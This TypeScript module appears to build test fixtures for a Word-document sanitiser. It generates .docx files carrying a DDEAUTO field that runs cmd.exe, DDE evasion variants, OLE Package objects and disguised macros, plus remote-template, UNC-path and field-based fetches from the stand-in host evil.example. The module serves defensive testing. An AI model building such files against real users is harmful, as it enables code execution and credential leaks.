// Word files with what runs programs or reaches outside, each with one kind of it.
import { type DocxParts, makeDocx, p, partOf } from '../make-docx.js';

export const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MICROSOFT = 'http://schemas.microsoft.com/office';

/** Id, type (its last step, or all of it), target, and whether it lies outside. */
type Rel = readonly [id: string, type: string, target: string, outside?: boolean];

interface Reaching extends Partial<DocxParts> {
  readonly rels?: readonly Rel[];
  /** Relationships of other parts, by the name of the part; '' for those of the package. */
  readonly relsOf?: Readonly<Record<string, readonly Rel[]>>;
  /** Declarations for `[Content_Types].xml`. */
  readonly types?: string;
  /** The tag in its first paragraph; `{{x}}` by default. */
  readonly tag?: string;
}

const relXml = ([id, type, target, outside = false]: Rel) =>
  `<Relationship Id="${id}" Type="${type.includes(':') ? type : `${OFFICE}/${type}`}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`;

const EMPTY =
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';

/** A Word file with relationships of one's own; its body shows a value. */
export function reachingDocx({
  rels = [],
  relsOf = {},
  types = '',
  body = '',
  entries = {},
  tag = '{{x}}',
  ...parts
}: Reaching) {
  const plain = makeDocx({ body: '', ...parts });
  const all: Readonly<Record<string, readonly Rel[]>> = { 'word/document.xml': rels, ...relsOf };
  const added = Object.entries(all).map(([part, own]) => {
    const name = part.replace(/([^/]*)$/, '_rels/$1.rels');
    const xml = (partOf(plain, name) || EMPTY).replace(
      '</Relationships>',
      `${own.map(relXml).join('')}</Relationships>`,
    );
    return [name, xml] as const;
  });
  const declared = partOf(plain, '[Content_Types].xml').replace('</Types>', `${types}</Types>`);
  return makeDocx({
    body: p(tag) + body,
    ...parts,
    entries: { '[Content_Types].xml': declared, ...Object.fromEntries(added), ...entries },
  });
}

export const override = (part: string, type: string) =>
  `<Override PartName="/${part}" ContentType="${type}"/>`;

/** A complex field: its code, one run a string, and its result. */
export const field = (code: readonly string[], result?: string) =>
  `<w:p>${char('begin')}${code.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('')}${
    result === undefined ? '' : `${char('separate')}<w:r><w:t>${result}</w:t></w:r>`
  }${char('end')}</w:p>`;

export const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;

const O = 'xmlns:o="urn:schemas-microsoft-com:office:office"';

/** An embedded or linked object with its picture. */
export const object = (progId: string, type = 'Embed', id = 'rIdX') =>
  `<w:p><w:r><w:object w:dxaOrig="1000" w:dyaOrig="1000"><v:shape id="s1" style="width:50pt;height:50pt"><v:imagedata r:id="rIdPicture"/></v:shape><o:OLEObject ${O} Type="${type}" ${progId} ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="${id}"/></w:object></w:r></w:p>`;

const PICTURE: Rel = ['rIdPicture', 'image', 'media/image1.png'];
const PNG = { 'word/media/image1.png': new Uint8Array([0x89, 0x50]) };

/** An object in a part of its own, whose bytes are these. */
export const embedded = (progId: string, bytes: readonly number[] = []) =>
  reachingDocx({
    body: object(progId),
    rels: [['rIdX', 'oleObject', 'embeddings/oleObject1.bin'], PICTURE],
    types: '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    entries: { ...PNG, 'word/embeddings/oleObject1.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, ...bytes]) },
  });

/** A picture of DrawingML with these attributes of its `a:blip`. */
export const drawing = (blip: string, extension = '') =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="图片" descr="全区地图"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="图片"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${blip}${extension === '' ? '/>' : `>${extension}</a:blip>`}<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const SETTINGS_TYPE = override(
  'word/settings.xml',
  'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml',
);

/** A file with settings and their relationships. */
export const withSettings = (settings: string, own: readonly Rel[], tag = '{{x}}') =>
  reachingDocx({
    tag,
    rels: [['rIdSettings', 'settings', 'settings.xml']],
    relsOf: { 'word/settings.xml': own },
    types: SETTINGS_TYPE,
    entries: {
      'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}">${settings}</w:settings>`,
    },
  });

export const attached = (target: string, tag?: string) =>
  withSettings(
    '<w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/>',
    [['rId1', 'attachedTemplate', target, true]],
    tag,
  );

const CHART = 'http://schemas.openxmlformats.org/drawingml/2006/chart';

/** A chart whose data are elsewhere. */
export const chart = (rel: Rel, entries: DocxParts['entries'] = {}) =>
  reachingDocx({
    body: `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="图"/><a:graphic><a:graphicData uri="${CHART}"><c:chart xmlns:c="${CHART}" r:id="rIdX"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
    rels: [['rIdX', 'chart', 'charts/chart1.xml']],
    relsOf: { 'word/charts/chart1.xml': [rel] },
    types: override(
      'word/charts/chart1.xml',
      'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
    ),
    entries: {
      'word/charts/chart1.xml': `<c:chartSpace xmlns:c="${CHART}" xmlns:r="${OFFICE}"><c:chart><c:plotArea><c:pieChart/></c:plotArea></c:chart><c:externalData r:id="${rel[0]}"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>`,
      ...entries,
    },
  });

const EVIL = 'http://evil.example';
const PACKAGE_ID = [0x0c, 0, 3, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
const utf16 = (words: string) => [...words].flatMap((letter) => [letter.charCodeAt(0), 0]);
const comments = (xml: string) =>
  reachingDocx({
    rels: [['rIdX', 'comments', 'comments.xml']],
    types: override(
      'word/comments.xml',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml',
    ),
    entries: { 'word/comments.xml': xml },
  });
const MAIN = 'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

/** What runs programs: the kind, the file, the code of the finding. */
export const RUNNING: readonly (readonly [string, Uint8Array, string])[] = [
  [
    'a DDEAUTO field',
    reachingDocx({ body: field([' DDEAUTO c:\\\\cmd.exe "/k calc" '], 'x') }),
    'active-content',
  ],
  [
    'a DDE field over several runs',
    reachingDocx({ body: field([' D', 'd', 'e excel "a"']) }),
    'active-content',
  ],
  [
    'a DDE field in entities and CDATA',
    reachingDocx({ body: field(['&#68;<![CDATA[D]]><!-- - -->E x']) }),
    'active-content',
  ],
  [
    'a DDE field in capitals of another width',
    reachingDocx({ body: field([' ＤＤＥ x ']) }),
    'active-content',
  ],
  [
    'a DDE field in a w:fldSimple',
    reachingDocx({
      body: '<w:p><w:fldSimple w:instr=" ddeauto x"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    }),
    'active-content',
  ],
  [
    'a DDE field in the code of another',
    reachingDocx({
      body: `<w:p>${char('begin')}<w:r><w:instrText>IF 1=1 </w:instrText></w:r>${field(['DDE x']).slice(5, -6)}${char('end')}</w:p>`,
    }),
    'active-content',
  ],
  [
    'a DDE field that was deleted with changes tracked',
    reachingDocx({
      body: `<w:p><w:del w:id="1" w:author="a">${char('begin')}<w:r><w:delInstrText>DDE x</w:delInstrText></w:r>${char('end')}</w:del></w:p>`,
    }),
    'active-content',
  ],
  ['a DDE field in a footer', reachingDocx({ footer: field(['DDE x']) }), 'active-content'],
  [
    'a DDE field in a comment, under another prefix',
    comments(
      `<q:comments ${MAIN}><q:comment q:id="1" q:author="a"><q:p><q:r><q:fldChar q:fldCharType="begin"/></q:r><q:r><q:instrText>DDE x</q:instrText></q:r><q:r><q:fldChar q:fldCharType="end"/></q:r></q:p></q:comment></q:comments>`,
    ),
    'active-content',
  ],
  [
    'a field whose name another field prints',
    reachingDocx({
      body: `<w:p>${char('begin')}${field(['QUOTE 68 68 69'], 'DDE').slice(5, -6)}<w:r><w:instrText> x</w:instrText></w:r>${char('end')}</w:p>`,
    }),
    'active-content',
  ],
  ['an object of class Package', embedded('ProgID="Package"'), 'active-content'],
  [
    'a Package under the name of a workbook',
    embedded('ProgID="Excel.Sheet.8"', PACKAGE_ID),
    'active-content',
  ],
  ['a web page as an object', embedded('ProgID="htmlfile"'), 'active-content'],
  ['a workbook with macros as an object', embedded('ProgID="Excel.SheetMacroEnabled.12"'), 'active-content'],
  ['macros in the bytes of an object', embedded('ProgID="Excel.Sheet.8"', utf16('_VBA_PROJECT')), 'macros'],
  [
    'an ActiveX control',
    reachingDocx({
      body: '<w:p><w:r><w:object><w:control r:id="rIdX" w:name="c"/></w:object></w:r></w:p>',
      rels: [['rIdX', 'control', 'activeX/activeX1.xml']],
      entries: { 'word/activeX/activeX1.xml': '<a/>' },
    }),
    'active-content',
  ],
  [
    'an ActiveX control by its content type',
    reachingDocx({
      types: override('word/a.xml', 'application/vnd.ms-office.activeX+xml'),
      entries: { 'word/a.xml': '<a/>' },
    }),
    'active-content',
  ],
  [
    'an add-in of Office',
    reachingDocx({
      relsOf: {
        '': [
          [
            'rIdX',
            `${MICROSOFT}/2011/relationships/webextensiontaskpanes`,
            'word/webextensions/taskpanes.xml',
          ],
        ],
      },
      entries: { 'word/webextensions/taskpanes.xml': '<a/>' },
    }),
    'active-content',
  ],
  [
    'macros under another name',
    reachingDocx({
      rels: [['rIdX', `${MICROSOFT}/2006/relationships/vbaProject`, 'a.bin']],
      types: '<Default Extension="bin" ContentType="application/octet-stream"/>',
      entries: { 'word/a.bin': 'x' },
    }),
    'macros',
  ],
  [
    'macros of WPS',
    reachingDocx({
      rels: [['rIdX', 'http://www.wps.cn/officeDocument/2018/jdeExtension', 'a.bin']],
      types: '<Default Extension="bin" ContentType="application/octet-stream"/>',
      entries: { 'word/a.bin': 'x' },
    }),
    'macros',
  ],
  ['macros of WPS by their part', reachingDocx({ entries: { 'word/JDEData.bin': 'x' } }), 'macros'],
  [
    'macros by the content type',
    reachingDocx({ types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
    'macros',
  ],
  [
    'a .docm under the name of a .docx',
    reachingDocx({
      types: override('word/a.xml', 'application/vnd.ms-word.document.MacroEnabled.main+xml'),
      entries: { 'word/a.xml': '<a/>' },
    }),
    'macros',
  ],
];

const SVG =
  '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>';

const HYPERLINK = reachingDocx({
  body:
    '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>' +
    field([`HYPERLINK "${EVIL}"`], '网站'),
  rels: [['rIdX', 'hyperlink', EVIL, true]],
});

/** What is ordinary, and stays as it is. */
export const ORDINARY: readonly (readonly [string, Uint8Array])[] = [
  ['hyperlinks', HYPERLINK],
  [
    'a hyperlink on a picture',
    reachingDocx({
      body: drawing('r:embed="rIdPicture"').replace(
        'descr="全区地图"/>',
        'descr="全区地图"><a:hlinkClick r:id="rIdX"/></wp:docPr>',
      ),
      rels: [PICTURE, ['rIdX', 'hyperlink', EVIL, true]],
      entries: PNG,
    }),
  ],
  [
    'fields that show what is in the file',
    reachingDocx({
      body: ['PAGE', 'REF a', '=SUM(ABOVE)', 'MACROBUTTON NoMacro 请填', 'SEQ 表', 'DATE']
        .map((code) => field([code], '1'))
        .join(''),
    }),
  ],
  [
    'a chart with its workbook',
    chart(['rId1', 'package', '../embeddings/a.xlsx'], { 'word/embeddings/a.xlsx': 'PK' }),
  ],
  ['an object of Excel', embedded('ProgID="Excel.Sheet.12"')],
  [
    'a picture in SVG with a DOCTYPE',
    reachingDocx({
      body: drawing('r:embed="rIdX"'),
      rels: [['rIdX', 'image', 'media/a.svg']],
      types: '<Default Extension="svg" ContentType="image/svg+xml"/>',
      entries: { 'word/media/a.svg': SVG },
    }),
  ],
  ['an equation', embedded('ProgID="Equation.3"')],
  [
    'a linked picture of the file itself',
    reachingDocx({ body: drawing('r:embed="rIdPicture"'), rels: [PICTURE], entries: PNG }),
  ],
];

const EACH: readonly (readonly [string, Uint8Array, string | RegExp, string?])[] = [
  [
    'a remote template',
    attached(`${EVIL}/a.dotm`),
    /<w:settings [^>]*><w:zoom w:percent="100"\/><\/w:settings>/,
    'word/settings.xml',
  ],
  ['a template on a server', attached('file://evil.example/a.dotm'), '<w:zoom', 'word/settings.xml'],
  [
    'a linked picture',
    reachingDocx({ body: drawing('r:link="rIdX"'), rels: [['rIdX', 'image', `${EVIL}/a.png`, true]] }),
    /descr="全区地图".*<a:blip>?<?\/?/,
  ],
  [
    'a picture linked and embedded',
    reachingDocx({
      body: drawing('r:embed="rIdPicture" r:link="rIdX"'),
      rels: [PICTURE, ['rIdX', 'image', `${EVIL}/a.png`, true]],
      entries: PNG,
    }),
    '<a:blip r:embed="rIdPicture"',
  ],
  [
    'a picture embedded from outside',
    reachingDocx({ body: drawing('r:embed="rIdX"'), rels: [['rIdX', 'image', `${EVIL}/a.png`, true]] }),
    'descr="全区地图"',
  ],
  [
    'a picture through a hyperlink',
    reachingDocx({ body: drawing('r:link="rIdX"'), rels: [['rIdX', 'hyperlink', `${EVIL}/a.png`, true]] }),
    'descr="全区地图"',
  ],
  [
    'an address without a target mode',
    reachingDocx({ body: drawing('r:link="rIdX"'), rels: [['rIdX', 'image', `${EVIL}/a.png`]] }),
    'descr="全区地图"',
  ],
  [
    'a linked picture in VML',
    reachingDocx({
      body: '<w:p><w:r><w:pict><v:shape id="s" style="width:9pt;height:9pt"><v:imagedata r:id="rIdX"/></v:shape></w:pict></w:r></w:p>',
      rels: [['rIdX', 'image', '\\\\evil.example\\a.png', true]],
    }),
    '<v:imagedata/>',
  ],
  [
    'an address in VML',
    reachingDocx({
      body: `<w:p><w:r><w:pict><v:shape id="s" style="width:9pt;height:9pt"><v:imagedata src="${EVIL}/a.png"/></v:shape></w:pict></w:r></w:p>`,
    }),
    '<v:imagedata/>',
  ],
  [
    'a linked picture in a header',
    reachingDocx({
      header: drawing('r:link="rIdX"'),
      relsOf: { 'word/header1.xml': [['rIdX', 'image', `${EVIL}/a.png`, true]] },
    }),
    'descr="全区地图"',
    'word/header1.xml',
  ],
  [
    'an INCLUDEPICTURE field',
    reachingDocx({ body: field([` INCLUDEPICTURE "${EVIL}/`, 'a.png" \\d '], '看图') }),
    '<w:p><w:r><w:t>看图</w:t></w:r></w:p>',
  ],
  [
    'an INCLUDETEXT field',
    reachingDocx({ body: field([`INCLUDETEXT "${EVIL}/a.docx"`], '附文') }),
    '<w:p><w:r><w:t>附文</w:t></w:r></w:p>',
  ],
  [
    'a LINK field',
    reachingDocx({ body: field([`LINK Excel.Sheet.12 "${EVIL}/a.xlsx"`], '表') }),
    '<w:p><w:r><w:t>表</w:t></w:r></w:p>',
  ],
  ['an IMPORT field without a result', reachingDocx({ body: field([`IMPORT "${EVIL}/a.png"`]) }), '<w:p/>'],
  [
    'a field of another file for the table of contents',
    reachingDocx({ body: field([`RD "${EVIL}/a.docx"`]) }),
    '<w:p/>',
  ],
  [
    'a DATABASE field in a w:fldSimple',
    reachingDocx({
      body: `<w:p><w:fldSimple w:instr='DATABASE \\d "${EVIL}"'><w:r><w:t>数</w:t></w:r></w:fldSimple></w:p>`,
    }),
    '<w:p><w:r><w:t>数</w:t></w:r></w:p>',
  ],
  [
    'a field that names its picture by another field',
    reachingDocx({
      body: `<w:p>${char('begin')}<w:r><w:instrText>INCLUDEPICTURE "${EVIL}/</w:instrText></w:r>${field(['DOCPROPERTY Title'], '题').slice(5, -6)}<w:r><w:instrText>"</w:instrText></w:r>${char('separate')}<w:r><w:t>看图</w:t></w:r>${char('end')}</w:p>`,
    }),
    '<w:p><w:r><w:t>看图</w:t></w:r></w:p>',
  ],
  [
    'altChunk from outside',
    reachingDocx({ body: '<w:altChunk r:id="rIdX"/>', rels: [['rIdX', 'aFChunk', `${EVIL}/a.html`, true]] }),
    /<\/w:p><w:sectPr>/,
  ],
  [
    'altChunk in the file',
    reachingDocx({
      body: '<w:altChunk r:id="rIdX"/>',
      rels: [['rIdX', 'aFChunk', 'evil.example.htm']],
      types: override('word/evil.example.htm', 'text/html'),
      entries: { 'word/evil.example.htm': '<img src=x>' },
    }),
    /<\/w:p><w:sectPr>/,
  ],
  [
    'a linked object',
    reachingDocx({
      body: object('ProgID="Excel.Sheet.12"', 'Link'),
      rels: [['rIdX', 'oleObject', `file:///\\\\evil.example\\a.xlsx`, true], PICTURE],
      entries: PNG,
    }),
    /<w:pict><v:shape .*<\/v:shape><\/w:pict>/,
  ],
  [
    'the data of a chart',
    chart(['rId1', 'oleObject', `${EVIL}/a.xlsx`, true]),
    /<\/c:chart><\/c:chartSpace>/,
    'word/charts/chart1.xml',
  ],
  [
    'a subdocument',
    reachingDocx({
      body: '<w:p><w:subDoc r:id="rIdX"/></w:p>',
      rels: [['rIdX', 'subDocument', `${EVIL}/a.docx`, true]],
    }),
    '<w:p/>',
  ],
  [
    'frames',
    reachingDocx({
      rels: [['rIdW', 'webSettings', 'webSettings.xml']],
      relsOf: { 'word/webSettings.xml': [['rId1', 'frame', `${EVIL}/a.htm`, true]] },
      types: override(
        'word/webSettings.xml',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml',
      ),
      entries: {
        'word/webSettings.xml': `<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:frameset><w:frame><w:name w:val="a"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
      },
    }),
    '<w:frame><w:name w:val="a"/></w:frame>',
    'word/webSettings.xml',
  ],
  [
    'the data of a mail merge',
    withSettings(
      '<w:zoom w:percent="100"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:dataSource r:id="rId1"/></w:mailMerge>',
      [['rId1', 'mailMergeSource', `file:///\\\\evil.example\\a.mdb`, true]],
    ),
    /><w:zoom w:percent="100"\/><\/w:settings>/,
    'word/settings.xml',
  ],
  [
    'the query of a mail merge',
    withSettings(
      '<w:zoom w:percent="100"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/><w:connectString w:val="DSN=evil.example"/><w:query w:val="SELECT 1"/></w:mailMerge>',
      [],
    ),
    /><w:zoom w:percent="100"\/><\/w:settings>/,
    'word/settings.xml',
  ],
  [
    'a transformation',
    withSettings('<w:zoom w:percent="100"/><w:saveThroughXslt r:id="rId1"/>', [
      ['rId1', 'transform', `${EVIL}/a.xsl`, true],
    ]),
    /><w:zoom w:percent="100"\/><\/w:settings>/,
    'word/settings.xml',
  ],
  [
    'the video of a web page',
    reachingDocx({
      body: drawing(
        'r:embed="rIdPicture"',
        `<a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src='${EVIL}'>" h="1" w="1"/></a:ext></a:extLst>`,
      ),
      rels: [PICTURE],
      entries: PNG,
    }),
    /<a:blip r:embed="rIdPicture"><a:extLst\/><\/a:blip>/,
  ],
  [
    'an XML expansion pack',
    withSettings(
      `<w:zoom w:percent="100"/><sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="u" sl:manifestLocation="${EVIL}/a.xml"/></sl:schemaLibrary>`,
      [],
    ),
    '<sl:schema sl:uri="u"/>',
    'word/settings.xml',
  ],
  [
    'a relationship of a kind that nobody knows',
    reachingDocx({ relsOf: { '': [['rIdX', 'urn:x/unheard', `${EVIL}/a`, true]] } }),
    '<w:t',
  ],
];

/** What fetches from outside: the kind, the file, what is to be left in the part, and the part. */
export const FETCHING = EACH.map(
  ([kind, docx, left, part = 'word/document.xml']) => [kind, docx, left, part] as const,
);
